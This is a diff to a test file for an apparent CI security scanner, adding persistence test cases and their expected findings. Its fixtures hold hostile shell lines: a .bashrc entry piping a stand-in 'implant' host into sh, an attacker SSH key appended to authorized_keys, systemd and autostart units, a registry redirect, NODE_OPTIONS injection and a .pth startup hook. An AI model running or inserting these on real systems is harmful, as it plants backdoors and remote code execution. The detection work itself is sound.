@@ -220,6 +220,52 @@ urllib.request.urlopen("https://fixtures.example.test/gz", data=gzip.compress(bl
 print("fetched", len(page))
 """
 
+# --------------------------------------------------------------------------- item 4: persistence
+
+# A .pth file in the user site runs in every later Python: planted by setup.py, so both
+# the repository's install and detonation's run it.
+PTH_SETUP = """\
+import site, pathlib
+from setuptools import setup
+
+user_site = pathlib.Path(site.getusersitepackages())
+user_site.mkdir(parents=True, exist_ok=True)
+# Any import line runs at every later start; this one only marks that it did.
+(user_site / "zz_telemetry.pth").write_text("import os; os.environ.setdefault('ZZ', '1')\\n")
+setup(name="calc", version="0.1", py_modules=["calc"])
+"""
+
+# Every other place that runs later, from one test suite.
+EVERYWHERE = r"""
+set -e
+mkdir -p ~/.config/systemd/user ~/.config/autostart ~/.ssh
+printf '[Service]\nExecStart=%s/.x\n' "$HOME" > ~/.config/systemd/user/updater.service
+printf '[Desktop Entry]\nExec=%s/.x\n' "$HOME" > ~/.config/autostart/updater.desktop
+echo 'curl -s https://implant.persist.test/b | sh' >> ~/.bashrc
+git config --global core.hooksPath "$HOME/.hooks"
+echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker' >> ~/.ssh/authorized_keys
+echo 'registry=https://npm.persist.test/' >> ~/.npmrc
+echo 'NODE_OPTIONS=--require /home/runner/.x.js' >> "$GITHUB_ENV"
+echo "$HOME/.implant/bin" >> "$GITHUB_PATH"
+echo planted
+"""
+
+# The benign twin: a test suite that caches under ~/.cache, sets a git identity, pins
+# pip to the public index, and passes values to later steps as CI scripts do.
+ORDINARY_WRITES = r"""
+set -e
+mkdir -p ~/.cache/calc && date > ~/.cache/calc/last-run
+git config --global user.email ci@example.test
+git config --global user.name CI
+git config --global init.defaultBranch main
+mkdir -p ~/.config/pip && printf '[global]\nindex-url = https://pypi.org/simple\n' \
+  > ~/.config/pip/pip.conf
+echo "VERSION=0.1" >> "$GITHUB_ENV"
+echo "coverage=97" >> "$GITHUB_OUTPUT"
+echo '### 12 passed' >> "$GITHUB_STEP_SUMMARY"
+echo ok
+"""
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
@@ -228,6 +274,16 @@ CASES: dict[str, Case] = {
     ),
     "encoded-exfil": Case(scripted(), {"ci/test.sh": python(ENCODED_EXFIL)}),
     "web-tests": Case(scripted(), {"ci/test.sh": python(WEB_TESTS)}),
+    "pth-persistence": Case(
+        {
+            "setup.py": "from setuptools import setup\nsetup(name='calc', version='0.1', "
+            "py_modules=['calc'])\n",
+            "calc.py": CALC,
+        },
+        {"setup.py": PTH_SETUP},
+    ),
+    "persistence-everywhere": Case(scripted(), {"ci/test.sh": EVERYWHERE}),
+    "ordinary-writes": Case(scripted(), {"ci/test.sh": ORDINARY_WRITES}),
 }
 
 
@@ -430,4 +486,53 @@ def test_a_suite_that_fetches_pages_and_uploads_fixtures_stays_clean(reviews: Re
     for item in egress:
         assert item["decoy_seen"] == [], item
         assert item["decoy_where"] == [], item  # no search ran out of budget
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 4
+
+
+def test_a_pth_file_in_the_user_site_is_persistence_and_blocks(reviews: Reviews) -> None:
+    review = reviews.get("pth-persistence")
+    assert_blocked(review, "python-startup-write")
+    (hit,) = findings(review, "python-startup-write")
+    paths = {item["path"] for item in hit["evidence"]}
+    assert paths == {"~/.local/lib/python3.11/site-packages/zz_telemetry.pth"} or all(
+        p.endswith("/site-packages/zz_telemetry.pth") for p in paths
+    ), hit
+    # The repository's install and detonation's (and the build) ran setup.py: one behaviour.
+    checks = {item["id"].split(":")[0] for item in hit["evidence"]}
+    assert checks >= {"install", "detonation"}, hit  # and smoke, which builds the wheel
+    assert_whole(review)
+
+
+def test_every_place_that_runs_later_is_its_own_finding(reviews: Reviews) -> None:
+    review = reviews.get("persistence-everywhere")
+    assert_blocked(
+        review,
+        "systemd-unit-write",
+        "autostart-write",
+        "shell-profile-write",
+        "git-hook-write",
+        "ssh-access-write",
+        "package-index-redirect",
+        "workflow-command-write",
+    )
+    by_rule = {f["rule"]: f for f in review.verdict["findings"]}
+    assert "core.hookspath" in by_rule["git-hook-write"]["title"]
+    assert "npm.persist.test" in by_rule["package-index-redirect"]["title"]
+    workflow = [f for f in review.verdict["findings"] if f["rule"] == "workflow-command-write"]
+    titles = " ".join(f["title"] for f in workflow)
+    assert "NODE_OPTIONS" in titles, workflow
+    assert "/home/runner/.implant/bin" in titles, workflow
+    assert_whole(review)
+
+
+def test_caches_identities_and_step_outputs_are_not_persistence(reviews: Reviews) -> None:
+    review = reviews.get("ordinary-writes")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert review.verdict["findings"] == [], review.verdict["findings"]
+    (command,) = review.report("tests")["commands"]
+    assert command["stdout_tail"].strip().endswith("ok"), command
     assert_whole(review)
